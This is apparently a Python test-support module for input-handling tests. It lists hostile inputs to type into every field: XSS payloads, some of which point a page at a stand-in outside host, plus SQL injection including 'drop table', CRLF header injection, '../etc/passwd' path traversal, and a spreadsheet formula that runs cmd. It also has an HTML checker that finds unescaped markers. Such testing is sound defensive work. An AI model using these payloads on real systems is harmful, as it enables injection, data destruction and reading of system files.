"""What people and programs should never be able to do harm with, typed into every field: script in the ways a page can be
tricked into it, SQL, lines that end a header, names of files, formulas of spreadsheets, and text that is only odd.

Script carries MARK, so that a test can look for it where nothing but escaped text may stand."""

MARK = "zq7x"

SCRIPT = [
    f"<script>{MARK}()</script>",
    f"</textarea><script>{MARK}()</script>",
    f"</title><script>{MARK}()</script>",
    f"</script><script>{MARK}()</script>",
    f"\"><img src=x onerror={MARK}()>",
    f"'><svg/onload={MARK}()>",
    f"\" autofocus onfocus={MARK}() x=\"",
    f"' onmouseover={MARK}() '",
    f"javascript:{MARK}()",
    f"<a href=\"javascript:{MARK}()\">read</a>",
    f"[read](javascript:{MARK}())",
    f"<iframe srcdoc=\"<script>{MARK}()</script>\"></iframe>",
    f"<math><mi//xlink:href=\"data:x,<script>{MARK}()</script>\">",
    f"<!--><script>{MARK}()</script>-->",
    f"&lt;script&gt;{MARK}()&lt;/script&gt;",
    f"<style>*{{background:url(//elsewhere.example/{MARK})}}</style>",
    f"<meta http-equiv=refresh content=\"0;url=//elsewhere.example/{MARK}\">",
    f"<base href=//elsewhere.example/{MARK}>",
    f"<form action=//elsewhere.example/{MARK}><button>Save",
]
SQL = [
    "'; drop table entry; --",
    "' or '1'='1",
    "\" or \"\"=\"",
    "1); attach database 'elsewhere.db' as e; --",
    "%27%20union%20select%20password%20from%20account%20--",
    ":indicator @p ?1 $1",
    "\\'; select pg_sleep(10); --",
]
HEADERS = [
    "a@ambleford.example\r\nBcc: everyone@elsewhere.example",
    "Subject line\nX-Injected: yes",
    "%0d%0aSet-Cookie: session=elsewhere",
    "\u2028\u2029line separators",
]
FILES = ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "/dev/null", "CON", "a\u0000b".replace("\u0000", "%00")]
SHEETS = ["=cmd|'/c calc'!A1", "=HYPERLINK(\"http://elsewhere.example\",\"read\")", "+1+1", "-2+3", "@SUM(1,1)"]
ODD = [
    "0", "-1", "null", "undefined", "NaN", "true", "{{7*7}}", "${7*7}", "%s%n%x", "{0}",
    "Ｆｕｌｌ ｗｉｄｔｈ", "עברית مرحبا", "\u202eright to left", "e\u0301\u0301\u0301\u0301", "👩‍👩‍👧‍👦", "Ω≈ç√∫˜µ", "\ufeffmark", "O'Brien & Sons <Ltd>",
]
ALL = SCRIPT + SQL + HEADERS + FILES + SHEETS + ODD


def live_script(html):
    """Where a page holds the mark as markup and not as escaped text: what stands around it, or nothing.

    Read as a browser reads it: any element or attribute that carries the mark and can run or load something."""
    found = _Looking()
    found.feed(html)
    found.close()
    return found.faults


import html.parser  # noqa: E402


class _Looking(html.parser.HTMLParser):
    def __init__(self):
        super().__init__()
        self.faults, self.inside = [], []

    def handle_starttag(self, tag, attributes):
        self.inside.append(tag)
        for name, value in attributes:
            text = (value or "").lower()
            runs = name.startswith("on") or name == "srcdoc" or (name in ("href", "src", "action", "formaction", "xlink:href", "http-equiv")
                                                                and text.lstrip().startswith(("javascript:", "data:", "//")))
            if runs and (MARK in text or "elsewhere.example" in text):
                self.faults.append(f"<{tag} {name}={value!r}>")
        if tag in ("iframe", "object", "embed", "base"):
            self.faults.append(f"<{tag}>")

    def handle_data(self, text):
        if self.inside and self.inside[-1] in ("script", "style") and MARK in text:
            self.faults.append(f"<{self.inside[-1]}>{text[:80]}")

    def handle_endtag(self, tag):
        while self.inside:
            if self.inside.pop() == tag:
                break
